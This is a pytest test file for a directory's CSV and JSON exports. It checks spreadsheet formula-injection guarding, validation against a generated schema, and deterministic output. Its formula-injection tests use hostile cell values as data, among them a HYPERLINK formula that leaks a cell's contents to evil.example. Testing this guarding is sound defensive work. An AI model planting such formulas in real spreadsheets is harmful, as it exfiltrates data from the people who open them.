"""Exports: CSV safe to open in a spreadsheet, JSON that matches its generated JSON Schema."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import json
import random
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from referencing import Registry, Resource

from directory.check_report import Check, RowChecks
from directory.exports import (
    DIRECTORY_JSON,
    FORMULA_TRIGGERS,
    SCHEMA_JSON,
    STATUS_COLUMNS,
    entry_record,
    export_catalogue,
    export_files,
    json_schema,
    safe_cell,
    table_csv,
)
from directory.records import Directory, Entry
from directory.schema import load_schema
from directory.status import provider_status, provider_statuses
from directory.synthetic import write_synthetic_dataset
from directory.validate import errors, validate_directory
from tests.conftest import REPO_ROOT, latest_verification

PUBLISHED = REPO_ROOT / "directory_data"
SCHEMA = load_schema(PUBLISHED)
#: The real data is read as of its newest verification, so no row is from the future.
TODAY = dt.date.fromisoformat(latest_verification())
SITE = "https://openceu.example/"
EXPORTED = ("providers", "organizations", "acceptances", "sources")


def unguard(cell: str) -> str:
    """Undo safe_cell: drop the apostrophe it put before a formula trigger."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_TRIGGERS) else cell


def outputs(directory: Directory, site_url: str = SITE) -> dict[str, str]:
    return {
        page.src_uri: page.content
        for page in export_files(directory, SCHEMA, TODAY, site_url, provider_statuses(directory, TODAY))
    }


def validator(schema: dict[str, Any], definition: str | None = None) -> Draft202012Validator:
    """A validator for directory.json, or (with ``definition``) for one per-entry document."""
    registry: Registry[Any] = Registry().with_resource(schema["$id"], Resource.from_contents(schema))
    target = schema if definition is None else {"$ref": f"{schema['$id']}#/$defs/{definition}"}
    return Draft202012Validator(target, registry=registry, format_checker=Draft202012Validator.FORMAT_CHECKER)


def assert_valid_exports(files: dict[str, str]) -> int:
    """Every JSON export validates against schema.json; returns how many documents were checked."""
    schema = json.loads(files[SCHEMA_JSON])
    Draft202012Validator.check_schema(schema)
    whole = json.loads(files[DIRECTORY_JSON])
    assert list(validator(schema).iter_errors(whole)) == []
    singular = {"providers": "provider", "organizations": "organization"}
    checked = 1
    for uri, content in files.items():
        parts = uri.split("/")
        if len(parts) == 3 and parts[1] in singular and uri.endswith(".json"):
            document = json.loads(content)
            problems = list(validator(schema, singular[parts[1]]).iter_errors(document))
            assert problems == [], (uri, [p.message for p in problems])
            checked += 1
    return checked


@pytest.fixture(scope="module")
def real() -> Directory:
    directory = validate_directory(PUBLISHED, SCHEMA, TODAY)
    assert errors(directory) == []
    return directory


@pytest.fixture(scope="module")
def synthetic(tmp_path_factory: pytest.TempPathFactory) -> Directory:
    data = write_synthetic_dataset(
        tmp_path_factory.mktemp("synthetic") / "data", PUBLISHED, providers=120, organizations=80
    )
    directory = validate_directory(data, SCHEMA, TODAY, allow_synthetic=True)
    assert errors(directory) == []
    return directory


def provider(entry_id: str, **values: str) -> Entry:
    base = dict.fromkeys(SCHEMA.table("providers").column_names, "")
    base.update(
        id=entry_id,
        name=f"Provider {entry_id}",
        country="US",
        standing="accredited",
        source_url="https://example.org/source",
        source_kind="official",
        source_date="2026-06",
        source_quote="quoted words",
        verified_on="2026-11-01",
    )
    base.update(values)
    return Entry("providers", 2, base)


# --- safe_cell -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "=1+1",
        "+1",
        "-2",
        "@SUM(A1:A9)",
        "\tindented",
        "\rreturn",
    ],
)
def test_formula_triggers_get_a_leading_apostrophe(value):
    assert safe_cell(value) == "'" + value
    assert unguard(safe_cell(value)) == value


@pytest.mark.parametrize(
    "value",
    ["", "Acme Training", "a=b", "1+1", "e-mail", "'already quoted", "Ünïcode ✓", "https://example.org/=x"],
)
def test_normal_text_is_untouched(value):
    assert safe_cell(value) == value


@settings(deadline=None)
@given(st.text())
def test_no_cell_can_start_a_formula(value):
    guarded = safe_cell(value)
    assert not guarded.startswith(FORMULA_TRIGGERS)
    assert guarded in (value, "'" + value)


# --- CSV -----------------------------------------------------------------------------------


def read_csv(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content, newline=""), strict=True))


@pytest.mark.parametrize("key", EXPORTED)
def test_csv_round_trips_the_real_data(real, key):
    table = SCHEMA.table(key)
    rows = read_csv(outputs(real)[f"directory/export/{table.file}"])
    extra = STATUS_COLUMNS if key == "providers" else ()
    assert rows[0] == [*table.column_names, *extra]
    entries = sorted(real.of(key), key=lambda e: tuple(e.values[name] for name in table.row_key))
    assert len(rows) - 1 == len(entries) > 0
    statuses = provider_statuses(real, TODAY)
    for row, entry in zip(rows[1:], entries, strict=True):
        values = [unguard(cell) for cell in row]
        assert values[: len(table.columns)] == [entry.values[name] for name in table.column_names]
        if extra:
            status = statuses[entry.id]
            assert values[len(table.columns) :] == [status.code, status.rule, TODAY.isoformat()]


def test_hostile_cells_are_guarded_and_round_trip():
    hostile = {
        "name": '=HYPERLINK("http://evil.example","x")',
        "city": "-2+3",
        "notes": 'line one\nline "two", with commas\r\n@three',
        "iacet_provider_number": "+1 555",
        "topics": "\tsafety; @fire",
    }
    entry = provider("p-hostile", **hostile)
    table = SCHEMA.table("providers")
    content = table_csv(table, [entry], {entry.id: provider_status(entry, TODAY)})
    header, row = read_csv(content)
    cells = dict(zip(header, row, strict=True))
    for column, value in hostile.items():
        assert cells[column] == safe_cell(value)
        assert unguard(cells[column]) == value
    assert all(not cell.startswith(FORMULA_TRIGGERS) for cell in row)


@settings(deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_text_round_trips_through_csv(notes):
    entries = [provider(f"p-{n}", notes=text) for n, text in enumerate(notes)]
    statuses = {e.id: provider_status(e, TODAY) for e in entries}
    rows = read_csv(table_csv(SCHEMA.table("providers"), entries, statuses))
    column = rows[0].index("notes")
    assert [unguard(row[column]) for row in rows[1:]] == notes


# --- JSON and its schema -------------------------------------------------------------------


def test_real_exports_validate_against_the_generated_schema(real):
    files = outputs(real)
    listed = len(real.of("providers")) + len(real.of("organizations"))
    assert assert_valid_exports(files) == listed + 1


def test_synthetic_exports_validate_against_the_generated_schema(synthetic):
    assert len(synthetic.entries) >= 200
    files = outputs(synthetic)
    assert assert_valid_exports(files) == 120 + 80 + 1


def test_schema_is_generated_from_the_column_declarations():
    schema = json_schema(SCHEMA, SITE)
    Draft202012Validator.check_schema(schema)
    assert schema["$id"] == "https://openceu.example/directory/export/schema.json"
    for key, name in (
        ("providers", "provider"),
        ("organizations", "organization"),
        ("acceptances", "acceptance"),
    ):
        definition = schema["$defs"][name]
        table = SCHEMA.table(key)
        assert list(definition["properties"])[: len(table.columns)] == list(table.column_names)
        for column in table.columns:
            prop = definition["properties"][column.name]
            assert prop["description"] == column.description
            assert column.name in definition["required"]
            shape = prop if column.required else prop["anyOf"][0]
            if not column.required:
                assert prop["anyOf"][1] == {"type": "null"}
            item = shape["items"] if shape["type"] == "array" else shape
            assert item["maxLength"] == column.max_length
            if column.type == "url":
                assert item["format"] == "uri"
            if column.type == "date":
                assert item["format"] == "date"
            if column.type == "enum":
                assert item["enum"] == list(column.values)
            if column.type in ("slug", "country", "region", "partial_date"):
                assert "pattern" in item
    assert schema["$defs"]["status"]["properties"]["code"]["enum"] == [
        "good-standing",
        "lapsed",
        "needs-review",
        "unverified",
    ]
    assert "$id" not in json_schema(SCHEMA, "")


def test_json_record_shapes():
    entry = provider("p-shapes", topics="fire safety; first aid", delivery_modes="blended;live-online")
    found = Check("providers", "p-shapes", "source", TODAY, "https://example.org/source", "quote-present")
    status = provider_status(entry, TODAY, RowChecks(found, None))
    record = entry_record(entry, SCHEMA.table("providers"), "https://x.example/pre", status)
    assert record["topics"] == ["fire safety", "first aid"]
    assert record["delivery_modes"] == ["blended", "live-online"]
    assert record["region"] is None and record["notes"] is None
    assert record["source_date"] == "2026-06"
    assert record["status"]["code"] == "good-standing"
    assert record["status"]["stale_warning"] is None
    assert record["profile_url"] == "https://x.example/pre/directory/providers/p-shapes/"
    assert record["json_url"] == "https://x.example/pre/directory/providers/p-shapes.json"
    assert record["badge_url"] == "https://x.example/pre/directory/providers/p-shapes/badge.svg"


def test_acceptances_are_nested_under_their_organization(real):
    whole = json.loads(outputs(real)[DIRECTORY_JSON])
    assert whole["status_as_of"] == TODAY.isoformat()
    nested = {a["id"]: org["id"] for org in whole["organizations"] for a in org["acceptances"]}
    assert nested == {a.id: a.values["organization_id"] for a in real.of("acceptances")}
    for org in whole["organizations"]:
        ids = [a["id"] for a in org["acceptances"]]
        assert ids == sorted(ids)


def test_per_entry_documents_repeat_the_directory_records(real):
    files = outputs(real)
    whole = json.loads(files[DIRECTORY_JSON])
    for key in ("providers", "organizations"):
        assert [r["id"] for r in whole[key]] == sorted(e.id for e in real.of(key))
        for record in whole[key]:
            document = json.loads(files[f"directory/{key}/{record['id']}.json"])
            assert document == {"status_as_of": TODAY.isoformat(), **record}


def test_the_exports_carry_each_rows_additional_sources(real):
    """sources.csv is exported as it is, and each record lists the additional sources of its row."""
    files = outputs(real)
    more = real.additional_sources()
    assert any(table == "providers" for table, _ in more), (
        "the published data has a provider with two sources"
    )
    rows = read_csv(files["directory/export/sources.csv"])
    assert rows[0] == list(SCHEMA.table("sources").column_names)
    assert [row[:3] for row in rows[1:]] == sorted(
        [e.values["table"], e.values["id"], e.values["source_url"]] for e in real.of("sources")
    )
    whole = json.loads(files[DIRECTORY_JSON])
    records = [(key, record) for key in ("providers", "organizations") for record in whole[key]]
    records += [("acceptances", a) for org in whole["organizations"] for a in org["acceptances"]]
    for key, record in records:
        expected = [e.values["source_url"] for e in more.get((key, record["id"]), [])]
        assert [extra["source_url"] for extra in record["additional_sources"]] == expected
    (table, row_id), sources = next(item for item in more.items() if item[0][0] == "providers")
    document = json.loads(files[f"directory/{table}/{row_id}.json"])
    assert document["additional_sources"] == [{k: v or None for k, v in e.values.items()} for e in sources]


def test_an_acceptances_additional_source_is_nested_with_it_and_validates():
    org_values = dict.fromkeys(SCHEMA.table("organizations").column_names, "")
    org_values.update(
        id="o-board", name="Board O", kind="licensing-board", country="US", source_url="https://example.org/o",
        source_kind="official", source_quote="o says", verified_on="2026-11-01",
    )  # fmt: skip
    accept = dict.fromkeys(SCHEMA.table("acceptances").column_names, "")
    accept.update(
        id="o-board-iacet-ceu", organization_id="o-board", credit_type="iacet-ceu", conditions="any course",
        source_url="https://example.org/rule", source_kind="official", source_quote="accepts IACET CEUs",
        verified_on="2026-11-01",
    )  # fmt: skip
    also = dict.fromkeys(SCHEMA.table("sources").column_names, "")
    also.update(
        table="acceptances", id="o-board-iacet-ceu", source_url="https://example.org/faq", source_kind="third-party",
        source_date="2026-02", source_quote="the board accepts IACET CEUs", verified_on="2026-11-02",
    )  # fmt: skip
    directory = Directory(
        (
            provider("p-alone"),
            Entry("organizations", 2, org_values),
            Entry("acceptances", 2, accept),
            Entry("sources", 2, also),
            *(e for e in validate_directory(PUBLISHED, SCHEMA, TODAY).of("vocabularies")),
        ),
        (),
    )
    files = outputs(directory)
    assert assert_valid_exports(files) == 3
    whole = json.loads(files[DIRECTORY_JSON])
    (acceptance,) = whole["organizations"][0]["acceptances"]
    assert [a["source_url"] for a in acceptance["additional_sources"]] == ["https://example.org/faq"]
    assert acceptance["additional_sources"][0]["source_date"] == "2026-02"
    assert whole["organizations"][0]["additional_sources"] == []
    assert whole["providers"][0]["additional_sources"] == []
    schema = json.loads(files[SCHEMA_JSON])
    broken = copy.deepcopy(whole)
    broken["organizations"][0]["acceptances"][0]["additional_sources"][0]["source_kind"] = "a friend"
    assert not validator(schema).is_valid(broken)


def bad(document: dict[str, Any], change: str) -> dict[str, Any]:
    broken = copy.deepcopy(document)
    if change == "status code":
        broken["status"]["code"] = "accredited-by-us"
    elif change == "missing name":
        del broken["name"]
    elif change == "null required":
        broken["source_url"] = None
    elif change == "country":
        broken["country"] = "USA"
    elif change == "date":
        broken["verified_on"] = "2026-13-45"
    elif change == "unknown key":
        broken["endorsed"] = True
    elif change == "topics string":
        broken["topics"] = "a; b"
    return broken


@pytest.mark.parametrize(
    "change",
    ["status code", "missing name", "null required", "country", "date", "unknown key", "topics string"],
)
def test_a_bad_record_fails_validation(real, change):
    files = outputs(real)
    schema = json.loads(files[SCHEMA_JSON])
    first = sorted(real.of("providers"), key=lambda e: e.id)[0]
    document = json.loads(files[f"directory/providers/{first.id}.json"])
    assert validator(schema, "provider").is_valid(document)
    assert not validator(schema, "provider").is_valid(bad(document, change))
    whole = json.loads(files[DIRECTORY_JSON])
    whole["providers"][0] = bad(whole["providers"][0], change)
    assert not validator(schema).is_valid(whole)


def test_an_organization_without_acceptances_fails_validation(real):
    files = outputs(real)
    schema = json.loads(files[SCHEMA_JSON])
    org = sorted(real.of("organizations"), key=lambda e: e.id)[0]
    document = json.loads(files[f"directory/organizations/{org.id}.json"])
    del document["acceptances"]
    assert not validator(schema, "organization").is_valid(document)


# --- determinism and URLs ------------------------------------------------------------------


def test_output_is_deterministic_and_independent_of_row_order(synthetic):
    first = list(export_files(synthetic, SCHEMA, TODAY, SITE, provider_statuses(synthetic, TODAY)))
    assert first == list(export_files(synthetic, SCHEMA, TODAY, SITE, provider_statuses(synthetic, TODAY)))
    shuffled = list(synthetic.entries)
    random.Random(7).shuffle(shuffled)
    reordered = Directory(tuple(shuffled), ())
    assert first == list(export_files(reordered, SCHEMA, TODAY, SITE, provider_statuses(reordered, TODAY)))


def test_expected_files_and_no_reference_tables(real):
    files = outputs(real)
    exports = sorted(uri for uri in files if uri.startswith("directory/export/"))
    assert exports == [
        "directory/export/acceptances.csv",
        "directory/export/directory.json",
        "directory/export/organizations.csv",
        "directory/export/providers.csv",
        "directory/export/schema.json",
        "directory/export/sources.csv",
    ]
    per_entry = [uri for uri in files if not uri.startswith("directory/export/")]
    assert len(per_entry) == len(real.of("providers")) + len(real.of("organizations"))


@pytest.mark.parametrize(
    ("site_url", "prefix"),
    [
        ("http://127.0.0.1:8000/", "http://127.0.0.1:8000/"),
        ("https://example.org/openceu", "https://example.org/openceu/"),
        ("https://example.org/openceu/", "https://example.org/openceu/"),
    ],
)
def test_urls_follow_the_site_url(real, site_url, prefix):
    whole = json.loads(outputs(real, site_url)[DIRECTORY_JSON])
    record = whole["organizations"][0]
    assert record["profile_url"] == f"{prefix}directory/organizations/{record['id']}/"
    assert record["json_url"] == f"{prefix}directory/organizations/{record['id']}.json"


def test_the_catalogue_names_every_file_in_the_export_folder_in_order(real):
    written = [uri for uri in outputs(real) if uri.startswith("directory/export/")]
    catalogue = export_catalogue(real, SCHEMA)
    assert [export.path for export in catalogue] == written
    sizes = {export.path.rsplit("/", 1)[-1]: export.size for export in catalogue}
    for table in EXPORTED:
        rows = len(real.of(table))
        assert sizes[f"{table}.csv"] == f"{rows:,} row{'' if rows == 1 else 's'}"
    entries = len(real.of("providers")) + len(real.of("organizations"))
    assert sizes["directory.json"] == f"{entries:,} entries"
    assert [export.download for export in catalogue] == [True, True, True, True, False, False]


#: A made-up Ed25519 key (the did:key spec's example); no provider publishes one yet.
SIGNING_KEY = "did:key:z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLGpbnnEGta2doK"


def test_a_provider_s_signing_key_and_its_source_are_exported_and_described(real):
    """Issue 33: the exports carry issuer_did and issuer_did_source as they carry every column, and
    the JSON Schema states the key's form, so a malformed key does not validate."""
    source = "https://provider.example/signing-key"
    keyed = provider("keyed", issuer_did=SIGNING_KEY, issuer_did_source=source)
    directory = Directory((*real.entries, keyed), ())
    files = outputs(directory)
    assert_valid_exports(files)
    (row,) = [
        r for r in csv.DictReader(io.StringIO(files["directory/export/providers.csv"])) if r["id"] == "keyed"
    ]
    assert (row["issuer_did"], row["issuer_did_source"]) == (SIGNING_KEY, source)
    document = json.loads(files["directory/providers/keyed.json"])
    assert (document["issuer_did"], document["issuer_did_source"]) == (SIGNING_KEY, source)
    schema = json.loads(files[SCHEMA_JSON])
    for wrong in ("did:web:provider.example", SIGNING_KEY[:-1], SIGNING_KEY.replace("z6Mk", "z6LS")):
        assert not validator(schema, "provider").is_valid({**document, "issuer_did": wrong}), wrong
    unkeyed = json.loads(
        files[f"directory/providers/{sorted(real.of('providers'), key=lambda e: e.id)[0].id}.json"]
    )
    assert (unkeyed["issuer_did"], unkeyed["issuer_did_source"]) == (None, None)
